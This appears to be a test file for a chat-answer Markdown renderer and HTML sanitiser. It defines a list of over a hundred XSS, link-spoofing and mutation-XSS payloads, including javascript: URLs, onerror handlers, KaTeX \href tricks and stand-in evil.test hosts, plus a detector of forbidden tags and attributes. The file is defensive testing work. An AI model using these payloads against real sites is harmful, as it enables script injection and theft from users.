// Hostile answers, streamed and at once, through the renderer and straight into the sanitiser.
import { afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { typesetter } from './formulas';
import { sanitize } from './sanitize';
import { atOnce, OPTIONS, streamed } from './testing';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src=//evil.test/x.js></script>',
  '<SCRIPT\n>alert(1)</SCRIPT\n>',
  'text <script>alert(1)</script> text',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(2)>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="http:evil">x</a>',
  '<a href="/x" ping="https://evil.test">x</a>',
  '<a href="https://evil.test" target="_self" rel="opener">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.test/1)',
  '[x](//evil.test)',
  '[x](/\\evil.test)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.test/a.png)',
  '![x](//evil.test/a.png)',
  '![x](/\\evil.test/a.png)',
  '![x](\\\\evil.test/a.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](javascript:alert(1))',
  '![x](/attachments/../logout)',
  '![x](/attachments/%2e%2e/logout)',
  '![x](/attachments/..%2flogout)',
  '![x](/logout)',
  '![x][i]\n\n[i]: https://evil.test/a.png',
  '[![x](https://evil.test/a.png)](javascript:alert(1))',
  '[![x](https://evil.test/a.png)](https://evil.test)',
  '![" onerror="alert(1)](/attachments/a.png)',
  '![x](/attachments/a.png" onerror="alert(1))',
  '[x](https://evil.test "\\" onmouseover=\\"alert(1)")',
  '<img srcset="https://evil.test/a.png 1x" src="/attachments/a.png">',
  '<img src="https://evil.test/a.png" alt="x">',
  '<img src="data:image/png;base64,AAAA">',
  '<picture><source srcset="https://evil.test/a"><img src="/attachments/a"></picture>',
  '<video poster="https://evil.test/a" src="https://evil.test/v"></video>',
  '<audio src="https://evil.test/a" autoplay></audio>',
  '<table background="https://evil.test/a"><tr><td background="//evil.test">x</td></tr></table>',
  '<form action="https://evil.test"><input name="password"><button formaction="//e">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test)">x</p>',
  '<link rel="stylesheet" href="https://evil.test/a.css">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form id=x><form id=y><input name=attributes></form>',
  '<a id="location" name="cookie" href="/x">x</a>',
  '<p id="__proto__" name="constructor">x</p>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
  '<template><script>alert(1)</script></template>',
  '<div popover id=p>x</div><button popovertarget=p>x</button>',
  '<dialog open>x</dialog>',
  '<div class="fixed inset-0 z-50">x</div>',
  '<span class="language-x fixed">x</span>',
  '<div data-island="chat" aria-label="x" role="alert" tabindex="1">x</div>',
  '<x-island is="chat" slot="x">x</x-island>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<pre><script>alert(1)</script></pre>',
  'a <code><img src=x onerror=alert(1)></code> b',
  'a <kbd>*b*<img src=x onerror=alert(1)>',
  '```" onmouseover="alert(1)\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '- ```js fixed inset-0\n  </code></pre><script>alert(1)</script>\n  ```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> <br onclick=alert(1)> <br> |',
  '> <script>\n> alert(1)\n> </script>',
  '# <img src=x onerror=alert(1)>',
  '- [x] <input type=checkbox onclick=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)</script>',
  '[a](https://evil.test)[b](<https://evil.test/"><script>alert(1)</script>>)',
  'https://evil.test/"onmouseover="alert(1)',
  'javascript:alert(1) www.evil.test',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{https://evil.test}$',
  '$\\includegraphics{https://evil.test/a.png}$',
  '$\\htmlClass{fixed inset-0}{x}$ $\\htmlId{location}{x}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\htmlData{island=chat}{x}$',
  '$$\n\\text{<img src=x onerror=alert(1)>}\n$$',
  '$<script>alert(1)</script>$ $</code><img src=x onerror=alert(1)>$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\rule{999em}{999em}$ $\\kern{9999em}x$',
  '\\[ \\unicode{x} </code><script>alert(1)</script> \\]',
  '<code class="maths">\\href{javascript:alert(1)}{x}</code>',
  '<span class="maths-display fixed">x</span>',
  'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  'a[^__proto__] b[^constructor]\n\n[^__proto__]: x\n[^constructor]: y',
  '<div class="footnote"><a href="javascript:alert(1)">1</a></div>',
  'a[^https://evil.test]\n\n[^https://evil.test]: ![x](https://evil.test/a.png)',
  '```exe\nMZ\n```\n\n```../../etc/passwd\nx\n```',
];

const TAGS = new Set(
  (
    'a abbr b blockquote br button code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd ' +
    'li mark ol p pre q s samp span strong sub summary sup table tbody td tfoot th thead tr u ul'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  'href src alt title class align colspan rowspan start lang dir open target rel loading tabindex'.split(
    ' ',
  ),
);
const CLASSES =
  /^(?:language-[\w+#.-]{1,32}|task-box|table-scroll|footnote|footnote-use|maths|maths maths-display|code-block(?:-header|-language)?|code-block-tool code-block-(?:copy|save|wrap)|hljs-[\w -]+)$/;

/** Everything forbidden under `root`, as words: an independent detector, not the sanitiser's lists. */
function findings(root: ParentNode): string[] {
  const found: string[] = [];
  for (const each of root.querySelectorAll('*')) {
    const tag = each.localName;
    const ours = tag === 'button' && each.classList.contains('code-block-tool');
    if (
      each.matches(
        '.maths > .katex, .maths > .katex *, .maths > .katex-display, .maths > .katex-display *',
      )
    ) {
      checkFormula(each, found);
      continue;
    }
    if (each.matches('.code-block-tool > svg, .code-block-tool > svg > path')) continue;
    if (!TAGS.has(tag) || (tag === 'button' && !ours)) found.push(`<${tag}>`);
    if (each.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace of <${tag}>`);
    for (const { name, value } of each.attributes) {
      const known =
        ATTRIBUTES.has(name) || (ours && /^(?:type|title|aria-(?:live|label|pressed))$/.test(name));
      if (!known) found.push(`${tag}[${name}]`);
      if (name === 'class' && !CLASSES.test(value)) found.push(`class ${value}`);
      if (name === 'tabindex' && value !== '0') found.push(`tabindex ${value}`);
    }
    if (each instanceof HTMLAnchorElement) checkLink(each, found);
    if (each instanceof HTMLImageElement) checkImage(each, found);
  }
  return found;
}

/** KaTeX draws more than a text may: but nothing that acts, fetches or covers the page. */
function checkFormula(part: Element, found: string[]): void {
  const tag = part.localName;
  if (!/^(?:span|svg|path|line|math|semantics|annotation|m[a-z]+)$/.test(tag))
    found.push(`<${tag}>`);
  for (const { name, value } of part.attributes) {
    if (/^(?:on|href|src|xlink|id$|data-)/i.test(name)) found.push(`${tag}[${name}]`);
    if (name === 'class' && /fixed|inset|z-/.test(value)) found.push(`class ${value}`);
    const sizes = name === 'style' ? value.matchAll(/(-?[\d.]+)em/g) : [];
    for (const [, size] of sizes) if (Math.abs(Number(size)) > 60) found.push(`style ${value}`);
    if (name === 'style' && /position: *fixed|url\(/.test(value)) found.push(`style ${value}`);
  }
}

function checkLink(link: HTMLAnchorElement, found: string[]): void {
  if (!link.hasAttribute('href')) return;
  if (!/^(?:https?|mailto):$/.test(link.protocol)) found.push(`link to ${link.href}`);
  const away = link.protocol !== 'mailto:' && link.origin !== location.origin;
  if (away && !/^https?:\/\//.test(link.getAttribute('href') ?? '')) found.push('disguised host');
  if (away && link.rel !== 'noopener noreferrer nofollow') found.push('rel missing');
  if (away && link.target !== '_blank') found.push('target missing');
}

function checkImage(image: HTMLImageElement, found: string[]): void {
  const url = new URL(image.src, location.href);
  const own = url.origin === location.origin && url.pathname.startsWith('/attachments/');
  if (!own || /%2f|%5c/i.test(url.pathname)) found.push(`image ${image.src}`);
}

beforeAll(async () => {
  await typesetter.load(); // or formulas would be text
});

beforeEach(() => {
  vi.useFakeTimers();
});

afterEach(() => {
  vi.useRealTimers();
  document.body.replaceChildren();
});

test('the detector sees what it should', () => {
  const fragment = document.createElement('div');
  const link = document.createElement('a');
  link.href = 'javascript:alert(1)';
  link.setAttribute('onclick', 'x');
  link.className = 'fixed';
  const image = document.createElement('img');
  image.src = 'https://evil.test/a.png';
  fragment.append(link, image, document.createElement('form'));

  expect(findings(fragment)).toHaveLength(8);
});

test('at least forty attacks, none twice', () => {
  expect(new Set(ATTACKS).size).toBe(ATTACKS.length);
  expect(ATTACKS.length).toBeGreaterThan(40);
});

describe.each(ATTACKS)('%s', (attack) => {
  test('is harmless at once', () => {
    expect(findings(atOnce(attack))).toEqual([]);
  });

  test('is harmless streamed', () => {
    const { host, view } = streamed(`a\n\n${attack}\n\nb`, OPTIONS, 5);

    expect(findings(host)).toEqual([]);
    view.finish(attack);
    expect(findings(host)).toEqual([]);
    expect(host.innerHTML).toBe(atOnce(attack).innerHTML);
  });

  test('is harmless in the sanitiser alone', () => {
    const host = document.createElement('div');
    host.append(sanitize(attack));

    expect(findings(host)).toEqual([]);
  });
});

describe('what is shown instead', () => {
  test('HTML is shown as text', () => {
    expect(atOnce('<div onclick="x">\n  a\n</div>').textContent).toBe('<div onclick="x">  a</div>');
    expect(atOnce('un <b>mot</b>').textContent).toContain('un <b>mot</b>');
    expect(atOnce('a <pre>*b*</pre> <i>c</i>').textContent).toContain('<i>c</i>');
  });

  test('an image from elsewhere becomes a link with its text and address', () => {
    const link = atOnce('![Une tour](https://ailleurs.test/t.png)').querySelector('a');

    expect(link?.textContent).toBe('Une tour (https://ailleurs.test/t.png)');
    expect(link?.getAttribute('href')).toBe('https://ailleurs.test/t.png');
    expect(link?.target).toBe('_blank');
  });

  test('an image that is no web address becomes text, shortened', () => {
    const host = atOnce(`![x](data:image/png;base64,${'A'.repeat(9000)})`);

    expect(host.querySelector('a, img')).toBeNull();
    expect(host.textContent.length).toBeLessThan(300);
  });

  test("one's own file is an image", () => {
    const image = atOnce('![Plan](/attachments/12/plan.png)').querySelector('img');

    expect(image?.getAttribute('src')).toBe('/attachments/12/plan.png');
    expect(image?.alt).toBe('Plan');
  });

  test('a refused link leaves its text', () => {
    const host = atOnce('[lire **ceci**](javascript:alert(1))');

    expect(host.querySelector('a')).toBeNull();
    expect(host.textContent).toContain('lire ceci');
  });

  test('local links stay in the tab, mail needs no rel', () => {
    const links = atOnce('[a](/chat/1) [b](mailto:a@b.test) [c](#x)').querySelectorAll('a');

    expect([...links].map((link) => link.target)).toEqual(['', '', '']);
  });

  test('alignment of tables survives', () => {
    expect(atOnce('| a |\n|--:|\n| b |').querySelector('td')?.getAttribute('align')).toBe('right');
  });
});

describe('degenerate answers', () => {
  test.each(['> ', '- ', '[', '*', '`', '<', '![', '|', '_a', '<div>', '\n', '#', '[x]: '])(
    '%j repeated ends, and soon',
    (piece) => {
      const host = atOnce(piece.repeat(3000));

      expect(findings(host)).toEqual([]);
    },
    5000,
  );
});
